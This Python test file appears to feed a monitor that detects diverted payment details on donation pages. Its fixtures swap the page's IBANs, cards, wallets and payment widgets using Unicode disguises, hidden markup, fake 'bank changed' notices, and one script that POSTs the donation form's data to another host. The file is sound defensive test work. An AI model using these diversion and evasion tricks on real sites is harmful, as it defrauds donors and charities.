"""Money led elsewhere by other means: accounts without IBAN, requisites of wallets and banks, parts of forms and widgets."""

# ruff: noqa: E501 -- a line is often a whole page of a server

from __future__ import annotations

from urllib.parse import quote

from tests.world import wallets
from tests.world.answers import answer
from tests.world.pages import OTHER_IBAN, OUR_IBAN, TEXT, bitcoin_address, iban, page
from tests.world.scenes_unseen_payment import ELSEWHERE, added, changed
from tests.world.stage import Scene, scenes, serving, variants

EASTERN = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
PERSIAN = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
BOLD = {48 + digit: 0x1D7CE + digit for digit in range(10)} | {65 + letter: 0x1D400 + letter for letter in range(26)}
GROUPS = [OTHER_IBAN[at : at + 4] for at in range(0, len(OTHER_IBAN), 4)]
GEORGIA, LATVIA = iban("GE", "TE0000000000000055"), iban("LV", "TEST0000000000055")
EPC = f"BCD\n002\n1\nSCT\n\nCharity\n{OTHER_IBAN}\n\n\n\n\n"


def instead(*accounts: str) -> Scene:
    """Another account in the place of ours."""
    return variants(*(answer(200, page(account=account)) for account in accounts))


def linked_data(name: str, value: str) -> str:
    return f'<script type="application/ld+json">{{"@type":"DonateAction","recipient":{{"@type":"NGO","{name}":"{value}"}}}}</script>'


def hidden_field(name: str, value: str, action: str = "https://payment.test/pay") -> str:
    return f'<form action="{action}" method="post"><input type="hidden" name="{name}" value="{value}"><button>Donate</button></form>'


ACCOUNTS = {
    "second-one-of-three-accounts": changed(
        f"<p>EUR {GEORGIA}</p><p>USD {iban('GE', 'TE0000000000000066')}</p>",
        f"<p>EUR {LATVIA}</p><p>USD {iban('GE', 'TE0000000000000066')}</p>",
    ),
    "second-account-eastern-digits": instead(OTHER_IBAN.translate(EASTERN), OTHER_IBAN.translate(PERSIAN)),
    "second-account-bold": instead(OTHER_IBAN.translate(BOLD)),
    "second-account-marks": instead("\u200e".join(GROUPS), "\u200f".join(GROUPS), "/".join(GROUPS), "_".join(GROUPS), "·".join(GROUPS), "—".join(GROUPS), " | ".join(GROUPS), "\u3000".join(GROUPS), "\u2066" + OTHER_IBAN + "\u2069"),
    "second-account-nested-tags": instead(
        f"<b>{OTHER_IBAN[:2]}</b><sup></sup>{OTHER_IBAN[2:9]}<!-- x --><u>{OTHER_IBAN[9:]}</u>",
        "".join(f"<li>{group}</li>" for group in GROUPS),
        f"<bdi>{OTHER_IBAN[:11]}</bdi><bdi>{OTHER_IBAN[11:]}</bdi>",
    ),
    "second-account-in-boxes": added("".join(f'<input readonly size=4 value="{group}">' for group in GROUPS)),
    "second-account-in-picture-words": added(f'<img src="/account.png" alt="Our account: {OTHER_IBAN}">', f'<img src="/a.png" title="{OTHER_IBAN}">'),
    "second-account-in-linked-data": added(
        linked_data("bankAccount", OTHER_IBAN),
        linked_data("iban", "".join(f"\\u{ord(letter):04x}" for letter in OTHER_IBAN)),
    ),
    "second-account-by-mail": added(
        f'<a href="mailto:office@charity.test?subject=Gift&amp;body=Please%20pay%20to%20{quote(OTHER_IBAN)}">Bank details</a>',
        f'<a href="sms:+37400000000?body={OTHER_IBAN}">Send to a friend</a>',
    ),
    "second-account-in-code-picture": added(
        f'<img src="/qr?data={quote(EPC)}" alt="Scan to give">',
        f'<img src="data:image/svg+xml,{quote("<svg><desc>" + OTHER_IBAN + "</desc></svg>")}" alt="Scan">',
    ),
    "second-account-payto": added(f'<a href="payto://iban/{OTHER_IBAN}?amount=EUR:10">Give</a>'),
    "second-account-in-shadow": added(
        f"<div><template shadowrootmode=open><p>IBAN {OTHER_IBAN}</p></template></div>", f"<dialog open>IBAN {OTHER_IBAN}</dialog>",
        f"<marquee>{OTHER_IBAN}</marquee>", f"<details><summary>Bank</summary>{OTHER_IBAN}</details>",
    ),
    "second-account-new-instruction": added(f"<p><b>Important:</b> our bank has changed. Do not use the account above, use {OTHER_IBAN} from now on.</p>"),
    "second-account-shuffled-page": serving(answer(200, page(title="Գնալ - Charity", heading="Օգնել", text="Ձեր նվերը հասնում է ընտանիքներին։ " * 12, form="", account=OTHER_IBAN))),
    "second-card-swapped": changed("<p>Карта: 4000 0000 0000 0002</p>", "<p>Карта: 5555 5555 5555 4444</p>", "<p>Карта 5555-5555-5555-4444</p>", "<p>Карта 5555555555554444</p>"),
    "second-account-armenian": changed("<p>Հաշվեհամար՝ 1570012345678901 (AMD)</p>", "<p>Հաշվեհամար՝ 2470098765432100 (AMD)</p>", "<p>Հ/հ 24700 98765432100</p>"),
    "second-account-russian": changed("<p>Расчётный счёт: 40703810000000000001, БИК 044525000</p>", "<p>Расчётный счёт: 40703810900000000077, БИК 044525999</p>", "<p>Р/с 40703 810 9 0000 0000077</p>"),
    "second-account-british": changed("<p>Sort code 00-00-01, account number 12345678</p>", "<p>Sort code 00-00-09, account number 87654321</p>"),
    "second-account-american": changed("<p>Routing number 000000001, account number 000123456789</p>", "<p>Routing number 000000009, account number 000987654321</p>"),
}  # fmt: skip
WALLETS = {
    "second-wallet-split": added(
        "<p>BTC " + "".join(f"<span>{letter}</span>" for letter in bitcoin_address("theirs")) + "</p>",
        "<p>BTC " + "<wbr>".join(bitcoin_address("theirs")[at : at + 6] for at in range(0, 34, 6)) + "</p>",
    ),
    "second-wallet-in-linked-data": added(linked_data("wallet", wallets.segwit("theirs"))),
    "second-wallet-further-chains": added(
        f"<p>Monero: 4{'A1b2C3d4E5' * 9}A1b2</p>",
        f"<p>Cardano: addr1q{'9xyz8qwe7r' * 5}</p>",
        "<p>XRP: rEXAMPLEexampLEexamp1eEXAMP1eAAAA tag 7</p>",
        f"<p>TON: UQ{'Ab1_Cd2-Ef' * 4}Ab1_Cd</p>",
    ),
    "second-wallet-named": added("<p>Send ETH to helping-hands.eth</p>", "<p>Lightning: gifts@evil.test ⚡ lnurl1dp68gurn8ghj7ampd3kx2ar0veekzar0wd5xjtnrdakj7</p>"),
    "second-wallet-in-code-picture": added(f'<img src="/qr.png?bitcoin:{bitcoin_address("theirs")}" alt="Bitcoin">', f'<img alt="QR" src="https://qr.example.org/?chl=ethereum%3A0x{"1a2b3c4d5e" * 4}">'),
    "second-wallet-same-ends": changed(f"<p>ETH 0x1234{'a' * 32}9876</p>", f"<p>ETH 0x1234{'b' * 32}9876</p>"),
}  # fmt: skip
REQUISITES = {
    "second-quick-pay-receiver": changed(
        hidden_field("receiver", "4100000000001", "https://yoomoney.ru/quickpay/confirm"), hidden_field("receiver", "4100000000999", "https://yoomoney.ru/quickpay/confirm")
    ),
    "second-merchant-field": changed(
        hidden_field("merchantAccount", "charity_test", "https://secure.wayforpay.com/pay"), hidden_field("merchantAccount", "evil_test", "https://secure.wayforpay.com/pay")
    ),
    "second-idram-account": changed(
        hidden_field("EDP_REC_ACCOUNT", "100000001", "https://banking.idram.am/Payment/GetPayment"), hidden_field("EDP_REC_ACCOUNT", "100000999", "https://banking.idram.am/Payment/GetPayment")
    ),
    "second-jar": changed('<a href="https://send.monobank.ua/jar/OURS1">Поповнити банку</a>', '<a href="https://send.monobank.ua/jar/THEIRS2">Поповнити банку</a>'),
    "second-cash-names": changed(
        '<a href="https://cash.app/$ours">Cash App</a> <a href="https://venmo.com/u/ours">Venmo</a>',
        '<a href="https://cash.app/$theirs">Cash App</a> <a href="https://venmo.com/u/ours">Venmo</a>',
        '<a href="https://cash.app/$ours">Cash App</a> <a href="https://venmo.com/u/theirs">Venmo</a>',
    ),
    "second-schemes-of-wallets": added('<a href="upi://pay?pa=theirs@bank&pn=Charity">Pay by UPI</a>', '<a href="venmo://paycharge?recipients=theirs">Venmo</a>', '<a href="lightning:lnbc1pvjluezpp5qqqsyq">Lightning</a>'),
    "second-hosted-link": changed(
        '<a href="https://www.paypal.com/donate/?hosted_button_id=OURS1">PayPal</a>', '<a href="https://www.paypal.com/donate/?hosted_button_id=THEIRS2">PayPal</a>',
        '<a href="https://www.paypal.com/cgi-bin/webscr?cmd=_s-xclick&hosted_button_id=THEIRS2">PayPal</a>',
    ),
    "second-script-with-client": changed('<script src="https://www.paypal.com/sdk/js?client-id=OURS&currency=EUR"></script>', '<script src="https://www.paypal.com/sdk/js?client-id=THEIRS&currency=EUR"></script>'),
    "second-script-key": changed('<script src="https://checkout.stripe.com/checkout.js" data-key="pk_live_ours"></script>', '<script src="https://checkout.stripe.com/checkout.js" data-key="pk_live_theirs"></script>'),
    "second-widget-campaign": changed('<iframe src="https://widget.payment.test/form?org=charity"></iframe>', '<iframe src="https://widget.payment.test/form?org=thief"></iframe>'),
    "second-widget-host": changed('<iframe src="https://widget.payment.test/form"></iframe>', '<iframe src="https://widget.unknownpay.test/form"></iframe>'),
    "second-widget-by-script": changed('<script src="https://payment.test/w.js" data-campaign="ours"></script>', '<script src="https://unknownpay.test/w.js" data-campaign="ours"></script>'),
    "second-crowd-page": changed('<a href="https://www.gofundme.com/f/ours">Donate</a>', '<a href="https://www.gofundme.com/f/theirs">Donate</a>'),
    "second-transfer-by-mail": changed("<p>Interac e-Transfer: gifts@charity.test</p>", "<p>Interac e-Transfer: gifts@evil.test</p>"),
    "second-linked-picture": added(
        f'<a href="{ELSEWHERE}"><img src="/b.png" alt="Donate"></a>', f'<map name=m><area href="{ELSEWHERE}" alt="Donate now" shape=default></map>',
        f'<svg><a xlink:href="{ELSEWHERE}"><text>Donate now</text></a></svg>', f'<a role=button aria-label="Donate" href="{ELSEWHERE}"><i class=icon></i></a>',
        f'<a ping="/p" href="{ELSEWHERE}" class=donate-button>Yes, I want to help</a>',
    ),
    "second-form-posts-by-script": added(f"<script>fetch('{ELSEWHERE}', {{method: 'POST', body: new FormData(document.forms[0])}})</script>"),
    "second-form-in-template": added(f'<div><template shadowrootmode="open"><form action="{ELSEWHERE}"><button>Donate</button></form></template></div>'),
    "second-only-new-script": variants(answer(200, page(form="", account="", extra='<script src="https://unknownpay.test/button.js"></script>'))),
}  # fmt: skip
SHEET = "%PDF-1.4\n1 0 obj<</Length 60>>stream\nBT /F1 12 Tf (IBAN {}) Tj ET\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
DRESSED = {
    "second-account-in-utf-16": variants(
        answer(200, b"\xff\xfe" + page(account=OTHER_IBAN).encode("utf-16-le"), content_type="text/html"),
        answer(200, b"\xfe\xff" + page(account=OTHER_IBAN).encode("utf-16-be"), content_type="text/html; charset=utf-8"),
        answer(200, page(account=OTHER_IBAN).replace('<meta charset="utf-8">', "").encode("utf-16-be"), content_type="text/html; charset=utf-16be"),
    ),
    "second-account-as-text": variants(
        answer(200, f"Donate to Charity\n\n{TEXT}\n\nIBAN {OTHER_IBAN}\n", content_type="text/plain"),
        approved=answer(200, f"Donate to Charity\n\n{TEXT}\n\nIBAN {OUR_IBAN}\n", content_type="text/plain"),
    ),
    "second-account-in-sheet": variants(
        answer(200, SHEET.format(OTHER_IBAN).encode(), content_type="application/pdf"), approved=answer(200, SHEET.format(OUR_IBAN).encode(), content_type="application/pdf")
    ),
    "second-account-as-xhtml": serving(answer(200, '<?xml version="1.0"?>' + page(account=OTHER_IBAN).replace("<!doctype html>", ""), content_type="application/xhtml+xml")),
}  # fmt: skip
scenes(ACCOUNTS | WALLETS | REQUISITES | DRESSED)
